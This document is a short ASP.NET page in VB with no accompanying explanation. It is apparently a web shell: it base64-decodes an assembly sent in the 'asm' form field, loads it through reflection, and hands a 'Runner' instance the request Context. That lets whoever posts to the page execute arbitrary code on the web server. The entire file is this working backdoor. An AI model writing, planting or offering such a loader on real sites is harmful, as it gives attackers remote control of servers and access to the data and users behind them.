<%@ Page Language="VB" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
Sub Page_Load(ByVal sender As Object, ByVal e As EventArgs)
    Dim raw As Byte() = Convert.FromBase64String(Request.Form("asm"))
    Dim a As [Assembly] = [Assembly].Load(raw)
    a.CreateInstance("Runner").Equals(Context)
End Sub
</script>
